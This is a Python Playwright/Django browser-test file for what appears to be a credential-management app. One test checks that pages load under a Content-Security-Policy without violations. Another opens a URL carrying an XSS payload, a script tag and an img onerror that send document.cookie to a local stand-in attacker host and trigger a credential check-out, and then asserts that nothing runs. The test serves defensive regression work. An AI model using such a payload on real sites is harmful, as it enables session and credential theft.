"""In Chromium: every page loads under the Content-Security-Policy without a violation, and a
link carrying a script, opened by a signed-in operator, runs nothing."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING
from urllib.parse import quote

import pytest
from django.contrib.auth.models import User

from accounts.services import set_role
from identities.models import Identity
from pam.models import AccessSession
from tests.browser.support import sign_in
from tests.factories import make_user
from tests.roles_support import ADMIN, make_world
from tests.test_roles_access import TABLE

if TYPE_CHECKING:
    from playwright.sync_api import ConsoleMessage, Page

pytestmark = pytest.mark.browser


class Listener:
    """An HTTP server on a free port standing in for the attacker's host: it counts what
    reaches it."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        paths = self.paths

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                paths.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def attacker() -> Iterator[Listener]:
    listener = Listener()
    yield listener
    listener.server.shutdown()
    listener.server.server_close()


def csp_violations(page: "Page") -> list[str]:
    found: list[str] = []

    def on_console(message: "ConsoleMessage") -> None:
        if "Content Security Policy" in message.text:
            found.append(f"{page.url}: {message.text}")

    page.on("console", on_console)
    return found


def test_every_page_loads_without_a_csp_violation(page: "Page", browser_db: None) -> None:
    world = make_world()
    admin = world.users[ADMIN]
    admin.set_password("admin-password-for-csp")
    admin.save()
    from playwright.sync_api import Error as PlaywrightError

    violations = csp_violations(page)
    sign_in(page, admin.username, "admin-password-for-csp")
    pages = [
        route
        for route in TABLE
        if route.method == "GET" and not route.is_api and ADMIN in route.allowed
    ]
    assert len(pages) > 20
    for route in pages:
        try:
            response = page.goto(route.url(world))
        except PlaywrightError as exc:
            if "Download is starting" in str(exc):
                continue  # a CSV download, not a page
            raise
        assert response is not None, route
        policy = response.headers.get("content-security-policy", "")
        if response.headers.get("content-type", "").startswith("text/html"):
            assert "script-src 'self'" in policy, route
            assert "frame-ancestors 'none'" in policy, route
        page.wait_for_load_state("load")
    assert not violations, "\n".join(violations)


@pytest.fixture
def operator(browser_db: None) -> User:
    user = make_user("operator")
    set_role(user, "operator", actor=None)
    return user


def test_a_link_carrying_a_script_runs_nothing_for_an_operator(
    page: "Page", operator: User, shared_credential: Identity, attacker: Listener
) -> None:
    credential = shared_credential
    sign_in(page, "operator")
    # What the attack of issue 14 did: check the credential out, reveal it, send it away.
    script = (
        f"fetch('{attacker.url}/ran?c='+document.cookie);"
        f"fetch('/identities/{credential.pk}/check-out/',{{method:'POST'}});"
    )
    hostile = f'<script>{script}</script><img src=x onerror="{script}">'
    left: list[str] = []
    page.on("request", lambda request: left.append(request.url))
    response = page.goto(f"/policies/violations/?status={quote(hostile)}")
    assert response is not None
    assert response.status == 400
    page.wait_for_load_state("load")
    page.wait_for_timeout(1000)
    assert attacker.paths == []
    assert not [url for url in left if url.startswith(attacker.url)]
    assert not AccessSession.objects.filter(identity=credential).exists()
